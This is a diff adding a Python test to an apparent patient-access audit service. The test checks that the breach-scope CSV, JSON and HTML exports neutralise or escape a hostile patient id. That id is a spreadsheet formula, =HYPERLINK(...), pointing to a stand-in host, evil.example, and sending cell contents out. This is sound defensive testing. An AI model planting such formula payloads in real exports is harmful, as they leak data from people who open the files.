@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import dataclasses
+import html
 import json
 import sqlite3
 import time
 from contextlib import closing
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -181,6 +183,28 @@ def test_breach_scope_gives_the_command_line_figures_and_is_logged(asgi_demo: De
     for bad in ("subject=inf.dubois&since=soon", f"subject=inf.dubois&since={until}&until={start}", f"{query}&format=xml"):
         assert admin.get(f"/accessguard/admin/scope?{bad}", headers=HTML).status_code == 400
     assert admin.get(f"/accessguard/admin/scope?subject=nobody&since={start}", headers=HTML).status_code == 404
+
+
+def test_a_patient_id_that_is_a_spreadsheet_formula_is_inert_in_the_breach_scope_download(asgi_demo: Demo) -> None:
+    """A patient record is the service's data: an id like ``=HYPERLINK(…)`` must not run when the DPO opens the CSV."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with closing(sqlite3.connect(Path(asgi_demo.guard.settings.data_dir) / "patients.db")) as db, db:
+        db.execute(
+            "INSERT INTO patients SELECT ?, ins, first_name, '<b>Zzhostile</b>', birth_date, phone, email FROM patients WHERE id = 'pat-0001'",
+            (formula,),
+        )
+    nurse = asgi_demo.login("inf.dubois")
+    start = int(asgi_demo.clock.now) - 1
+    served = nurse.get("/patients?q=<b>Zzhostile", headers={"x-forwarded-for": CAEN})
+    assert served.status_code == 200 and [p["id"] for p in served.json()["patients"]] == [formula]
+    asgi_demo.clock.advance(60)
+    admin = _admin(asgi_demo)
+    asgi_demo.guard.access_log.flush()
+    query = f"subject=inf.dubois&since={start}"
+    [header, row] = admin.get(f"/accessguard/admin/scope?{query}&format=csv").text.splitlines()
+    assert row.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,')  # text to a spreadsheet, not a formula
+    assert admin.get(f"/accessguard/admin/scope?{query}&format=json").json()[0]["patient"] == formula  # JSON keeps the id as is
+    assert html.escape(formula) in admin.get(f"/accessguard/admin/scope?{query}", headers=HTML).text
 
 
 def test_audit_page_verifies_the_log_lists_reviews_and_alerts_and_closes_a_review(asgi_demo: Demo) -> None:
